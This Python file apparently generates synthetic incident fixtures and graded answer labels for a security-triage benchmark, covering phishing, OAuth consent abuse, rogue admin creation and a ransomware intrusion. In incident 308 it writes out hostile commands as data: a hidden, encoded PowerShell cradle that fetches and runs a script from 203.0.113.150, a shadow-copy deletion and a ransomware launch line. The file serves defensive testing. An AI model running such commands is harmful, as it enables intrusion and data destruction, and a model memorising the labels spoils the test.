from common3 import *


def inc305():
    n = 305
    label(n, verdict="escalate", acceptable=["remediate"], compromised=["rafael.ortiz@contoso.com"],
          actions=[A("revoke-sessions", "rafael.ortiz@contoso.com"), A("block-ip", "192.0.2.214")],
          forbidden=[A("block-ip", "198.51.100.57")],
          tactics=["TA0001", "TA0006", "TA0009"],
          source="Microsoft Threat Intelligence, 'Storm-2372 conducts device code phishing campaign' (February 2025)",
          why="Rafael entered a code from a fake Teams meeting invite: the device-code sign-in was completed for a client at 192.0.2.214, whose refresh token then read his mail through Graph.")
    ro = user("rafael.ortiz", "Rafael Ortiz", 1350)
    atk = vps("192.0.2.214", "DE", "Germany", "Hesse", "Frankfurt am Main", 50.1109, 8.6821, 64540, "cloudbyte hosting gmbh")
    office = own("198.51.100.57", city="Dallas", state="Texas", lat=32.7767, lon=-96.7970)
    msg = entity("MailMessage", "305-invite", {
        "recipient": "rafael.ortiz@contoso.com", "p1Sender": "events@fabrikam-summit.org", "p1SenderDomain": "fabrikam-summit.org",
        "p2Sender": "events@fabrikam-summit.org", "p2SenderDisplayName": "Fabrikam Partner Summit", "p2SenderDomain": "fabrikam-summit.org",
        "senderIP": "192.0.2.220", "receiveDate": fmt(at(12, "13:58", 2)), "networkMessageId": gid("nmid", n),
        "internetMessageId": "<20260112135802.4F1A@fabrikam-summit.org>", "subject": "Invitation: Partner Summit pre-brief (Teams)",
        "language": "en", "deliveryAction": "Delivered", "deliveryLocation": "Inbox", "antispamDirection": "Inbound",
        "urls": ["https://microsoft.com/devicelogin"], "friendlyName": "Invitation: Partner Summit pre-brief (Teams)"})
    q = ("SigninLogs\n| where AuthenticationProtocol == \"deviceCode\"\n| where ResultType == 0\n"
         "| where AppId in (\"29d9ed98-a469-4536-ade2-f981bc1d605e\",\"d3590ed6-52b3-4102-aeff-aad2292ab01c\")\n"
         "| join kind=leftanti (SigninLogs | where TimeGenerated > ago(30d) | where AuthenticationProtocol == \"deviceCode\" | distinct UserPrincipalName) on UserPrincipalName")
    a1 = rule(n, "devcode", "First device code flow sign-in for user", "Medium", at(12, "14:07", 31), at(12, "14:07", 31),
              ["InitialAccess", "CredentialAccess"], ["T1566.002", "T1528"],
              "rafael.ortiz@contoso.com completed a device code authentication for Microsoft Authentication Broker. The code was redeemed "
              "from 192.0.2.214 (DE, hosting) while the user entered it and completed MFA from 198.51.100.57 (Contoso Dallas). The user has "
              "no device code sign-ins in the last 30 days.", q, results=1)
    a2 = mdca(n, "graph", "Suspicious email access through Microsoft Graph", "High", at(12, "14:12"), at(12, "15:20"),
              ["Collection"], ["T1114.002"],
              "An unusual volume of MailItemsAccessed operations (3,904 items, 27 folders) through Microsoft Graph was performed on "
              "the mailbox of rafael.ortiz@contoso.com from 192.0.2.214. Search terms used: 'password', 'vpn', 'admin', 'credentials'.",
              upn="rafael.ortiz@contoso.com")
    a3 = ipc(n, "unfam", "unfamiliarFeatures", at(12, "14:07", 31), at(12, "14:07", 31), "rafael.ortiz@contoso.com", "192.0.2.214",
             "Frankfurt am Main, Hesse, DE")
    created = at(12, "15:40")
    build(n, "device-code-phishing-graph-mail", "Device code sign-in redeemed from hosting IP, then Graph mail access",
          "Device code authentication by a user who never uses it, redeemed by a foreign hosting address, followed by bulk Graph mailbox reads.",
          "High", "New", created, [a1, a3, a2], [ro, atk, office, msg, cloud_app("Microsoft Exchange Online", 20893)],
          comments=[(TOMAS, at(12, "15:58"), "Rafael forwarded the invite: a 'Teams pre-brief' asking him to go to microsoft.com/devicelogin and enter "
                     "a code 'to join'. He did, at 14:07.")])


def inc306():
    n = 306
    app_id = "b3f2c6a8-1d4e-4c9a-8e21-6a7f0d9e4c11"
    label(n, verdict="escalate", acceptable=["remediate"], compromised=["greta.lindqvist@contoso.com"],
          actions=[A("remove-role-assignment", "QuickSign Docs"), A("revoke-sessions", "greta.lindqvist@contoso.com"),
                   A("block-ip", "203.0.113.157")],
          forbidden=[A("block-ip", "198.51.100.88")],
          tactics=["TA0001", "TA0003", "TA0009"],
          source="Microsoft Learn, 'Detect and remediate illicit consent grants' and 'Protect against consent phishing'",
          why="An unverified multi-tenant app got Mail.ReadWrite and offline_access from Greta and immediately read thousands of messages from a hosting address: the grant itself is the attacker's persistence.")
    gl = user("greta.lindqvist", "Greta Lindqvist", 1360)
    app = cloud_app("QuickSign Docs", 0, extra={"ApplicationId": app_id, "Publisher": "Unverified", "Permissions": "Mail.ReadWrite, offline_access, User.Read"})
    atk = vps("203.0.113.157", "US", "United States", "Virginia", "Ashburn", 39.0438, -77.4874, 64550, "hostbeam cloud")
    office = own("198.51.100.88", city="Stockholm", state="Stockholm", cc="SE", country="Sweden", lat=59.3293, lon=18.0686)
    lure = url("https://quicksign-docs.fabrikam-share.com/view?id=88421")
    q = ("AuditLogs\n| where OperationName == \"Consent to application\"\n| extend Perms = tostring(TargetResources[0].modifiedProperties)\n"
         "| where Perms has_any (\"Mail.ReadWrite\",\"Mail.Read\",\"offline_access\",\"Files.ReadWrite.All\")\n| where Perms !has \"IsAdminConsent: True\"")
    a1 = rule(n, "consent", "Rare application consent", "Medium", at(13, "10:22", 9), at(13, "10:22", 9),
              ["Persistence", "InitialAccess"], ["T1528", "T1566.002"],
              "greta.lindqvist@contoso.com consented to the multi-tenant application 'QuickSign Docs' (publisher not verified, registered "
              "6 days ago in a foreign tenant) with delegated permissions Mail.ReadWrite, offline_access and User.Read. No other user in the "
              "tenant has consented to this application.", q, results=1, sources=["AuditLogs"])
    a2 = mdca(n, "mail", "Unusual ISP for an OAuth App", "High", at(13, "10:25"), at(13, "12:40"), ["Collection"], ["T1114.002"],
              "The OAuth app QuickSign Docs accessed 6,118 messages of greta.lindqvist@contoso.com through Microsoft Graph from "
              "203.0.113.157 (hostbeam cloud), an ISP not associated with this app's publisher. Access continued after the user's browser session ended.",
              upn="greta.lindqvist@contoso.com")
    created = at(13, "13:00")
    build(n, "oauth-illicit-consent-mail", "Unverified OAuth app granted Mail.ReadWrite and reading a mailbox",
          "User consent to an unverified app followed by high-volume mailbox access by the app.",
          "High", "Active", created, [a1, a2], [gl, app, atk, office, lure], owner=TOMAS,
          comments=[(TOMAS, at(13, "13:21"), "Greta says she clicked 'Accept' on a Microsoft permissions page after opening a shared contract link; "
                     "she consented from the Stockholm office (198.51.100.88). She does not know the app.")])


def inc307():
    n = 307
    ra = "/providers/Microsoft.Directory/roleAssignments/" + gid("ra", n)
    label(n, verdict="escalate", acceptable=[], compromised=["adm-rkapoor@contoso.com", "sync.helper02@contoso.com"],
          actions=[A("remove-role-assignment", "sync.helper02@contoso.com"), A("disable-account", "sync.helper02@contoso.com"),
                   A("revoke-sessions", "adm-rkapoor@contoso.com"), A("reset-credentials", "adm-rkapoor@contoso.com")],
          forbidden=[A("block-ip", "198.51.100.20")],
          tactics=["TA0001", "TA0003", "TA0004"],
          source="Microsoft Threat Intelligence, 'Octo Tempest crosses boundaries to facilitate extortion, encryption, and destruction' (October 2023)",
          why="An admin account signing in from a VPS created a new cloud-only account and made it Global Administrator with no change record: an attacker building persistent privileged access.")
    adm = user("adm-rkapoor", "Ravi Kapoor (admin)", 2301)
    new = account("sync.helper02", "Sync Helper 02", rid=None, domain_joined=False, nt=None)
    atk = vps("203.0.113.29", "US", "United States", "California", "Los Angeles", 34.0522, -118.2437, 64560, "vultr-like hosting inc")
    hq = own("198.51.100.20")
    q = ("AuditLogs\n| where OperationName == \"Add member to role\"\n| extend Role = tostring(TargetResources[0].modifiedProperties[1].newValue)\n"
         "| where Role has_any (\"Global Administrator\",\"Privileged Role Administrator\")")
    a1 = rule(n, "ga", "User added to privileged Microsoft Entra role", "High", at(8, "21:47", 3), at(8, "21:47", 3),
              ["PrivilegeEscalation", "Persistence"], ["T1098.003"],
              "adm-rkapoor@contoso.com added sync.helper02@contoso.com to the Global Administrator role (permanent, not eligible through PIM) "
              "at 21:47 UTC. The target account was created by the same actor 6 minutes earlier.", q, results=1, sources=["AuditLogs"],
              details={"RoleAssignment": [ra]})
    a2 = rule(n, "newacct", "New account created and assigned privileged role within 1 hour", "High", at(8, "21:41", 10), at(8, "21:47", 3),
              ["Persistence"], ["T1136.003"],
              "Cloud-only account sync.helper02@contoso.com created by adm-rkapoor@contoso.com from 203.0.113.29, then given Global Administrator. "
              "A FIDO2 key and an Authenticator app were registered on the new account at 21:52.", q, results=2, sources=["AuditLogs"])
    a3 = ipc(n, "anon", "anonymizedIPAddress", at(8, "21:33", 45), at(8, "21:33", 45), "adm-rkapoor@contoso.com", "203.0.113.29",
             "Los Angeles, California, US", sev="Medium")
    created = at(8, "22:10")
    build(n, "global-admin-new-account", "Global Administrator granted to newly created account",
          "Privileged role assignment to an account created minutes earlier by an admin signed in from an anonymising host.",
          "High", "New", created, [a3, a2, a1], [adm, new, atk, hq, cloud_app("Microsoft Azure", 12260)],
          comments=[(ELENA, at(8, "22:30"), "No change request for a new GA. Ravi is on leave this week (HR calendar); his normal sign-ins are from HQ 198.51.100.20.")])


def inc308():
    n = 308
    label(n, verdict="escalate", acceptable=[], compromised=["WS-MKT-031", "SRV-FS-03", "SRV-SQL-02", "adm-svcdeploy@contoso.com"],
          actions=[A("isolate-host", "WS-MKT-031"), A("isolate-host", "SRV-FS-03"), A("isolate-host", "SRV-SQL-02"),
                   A("disable-account", "adm-svcdeploy@contoso.com")],
          forbidden=[A("block-ip", "10.30.5.31")],
          tactics=["TA0002", "TA0011", "TA0007", "TA0008", "TA0040"],
          source="The DFIR Report, IcedID intrusions leading to Cobalt Strike, AdFind discovery and domain-wide ransomware (e.g. 'IcedID Macro Ends in Quantum Ransomware', 2022)",
          why="Encryption is running on two servers, deployed through a privileged account from the beachhead workstation that carries a Cobalt Strike beacon: contain all three hosts and the account now.")
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.150/updt/b.ps1')"
    b64 = enc_ps(cradle)
    ws = host("WS-MKT-031", os_version="10.0.22631")
    fs = host("SRV-FS-03", os_version="10.0.20348")
    sql = host("SRV-SQL-02", os_version="10.0.17763")
    vic = user("nadia.brooks", "Nadia Brooks", 1370)
    sadm = user("adm-svcdeploy", "Deployment admin", 2310)
    c2 = vps("203.0.113.150", "RU", "Russia", "Moscow", "Moscow", 55.7558, 37.6173, 64570, "bulletfast hosting",
             [{"providerName": "Microsoft Threat Intelligence", "threatType": "C2", "threatName": "Cobalt Strike", "threatDescription": "Cobalt Strike team server", "confidence": 85, "reportLink": ""}])
    ip_ws = ip("10.30.5.31")
    h_dll = filehash("5e2a9c0d4b7f8e1a3c6d9b2e4f7a0c3d6e9b1f4a7c0d3e6f9a2b5c8d1e4f7a0b")
    h_ransom = filehash("a71c0e3f9d2b5c8e1f4a7d0b3c6e9f2a5d8b1c4e7f0a3d6b9c2e5f8a1d4b7c0e")
    f_ps = file("C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "powershell.exe", h=ws)
    f_rund = file("C:\\Windows\\System32", "rundll32.exe", h=ws)
    f_dll = file("C:\\Users\\nadia.brooks\\AppData\\Local\\Temp", "licensing.dat", [h_dll], h=ws)
    f_ran = file("C:\\ProgramData", "svchst.exe", [h_ransom], h=fs)
    p_ps = process(n, 6120, f"powershell.exe -nop -w hidden -enc {b64}", fmt(at(4, "11:05", 12)), f_ps, None, vic, ws)
    p_r = process(n, 7344, "rundll32.exe C:\\Users\\nadia.brooks\\AppData\\Local\\Temp\\licensing.dat,#1", fmt(at(4, "11:05", 40)), f_rund, p_ps, vic, ws)
    p_ad = process(n, 8012, "AdFind.exe -f \"(objectcategory=computer)\" -csv name operatingSystem", fmt(at(4, "13:40")), None, p_r, vic, ws)
    p_ran = process(n, 4410, "C:\\ProgramData\\svchst.exe -path \\\\SRV-FS-03\\Shares -nolog", fmt(at(5, "02:14")), f_ran, None, sadm, fs)
    mal = malware("Cobalt Strike", "Backdoor", [f_dll], [p_r])
    a1 = mde(n, "loader", "An active 'IcedID' malware was detected", "High", at(4, "10:58"), at(4, "11:02"), ["Execution"], ["T1204.002"],
             "An active IcedID loader was detected on WS-MKT-031 launched from an ISO attachment (Invoice_0104.iso → document.lnk). "
             "The threat was not remediated.", "WS-MKT-031")
    a2 = mde(n, "ps", "Suspicious PowerShell command line", "Medium", at(4, "11:05", 12), at(4, "11:05", 40), ["Execution", "CommandAndControl"],
             ["T1059.001", "T1105"], "A PowerShell process with a base64-encoded command ran on WS-MKT-031 and downloaded a payload that was "
             "executed with rundll32.exe.", "WS-MKT-031")
    a3 = mde(n, "cs", "'CobaltStrike' backdoor was detected", "High", at(4, "11:06"), at(4, "13:52"), ["CommandAndControl", "Discovery"],
             ["T1071.001", "T1087.002", "T1482"], "A Cobalt Strike beacon beaconing to 203.0.113.150 over HTTPS was detected in rundll32.exe on "
             "WS-MKT-031. AdFind.exe and 'nltest /domain_trusts /all_trusts' were subsequently run from the beacon.", "WS-MKT-031")
    a4 = mdi(n, "psexec", "Remote code execution attempt", "High", at(5, "01:58"), at(5, "02:06"), ["LateralMovement", "Execution"],
             ["T1021.002", "T1569.002"], "CONTOSO\\adm-svcdeploy on WS-MKT-031 (10.30.5.31) successfully created a service on SRV-FS-03 and "
             "SRV-SQL-02 to run C:\\ProgramData\\svchst.exe (PsExec-style).", comp="adm-svcdeploy")
    a5 = mde(n, "ransom", "Ransomware behavior detected in the file system", "High", at(5, "02:14"), at(5, "02:31"), ["Impact"], ["T1486", "T1490"],
             "svchst.exe on SRV-FS-03 deleted volume shadow copies (vssadmin delete shadows /all /quiet) and modified 41,230 files appending "
             "the extension '.r3dact'. A ransom note README-RECOVER.txt was dropped in each folder. The same binary started on SRV-SQL-02.", "SRV-FS-03")
    created = at(5, "02:45")
    build(n, "icedid-cobaltstrike-ransomware", "IcedID to Cobalt Strike to ransomware on multiple endpoints",
          "Multi-stage incident involving Execution & Command and control & Lateral movement & Impact on multiple endpoints",
          "High", "New", created, [a1, a2, a3, a4, a5],
          [ws, fs, sql, vic, sadm, c2, ip_ws, h_dll, h_ransom, f_ps, f_rund, f_dll, f_ran, p_ps, p_r, p_ad, p_ran, mal],
          provider="Microsoft 365 Defender", provider_incident="40388",
          comments=[(KENJI, at(5, "02:58"), "Paged. Encryption is still in progress on SRV-FS-03 and SRV-SQL-02. adm-svcdeploy was used from the "
                     "marketing workstation; that account normally only runs from the SCCM server.")])
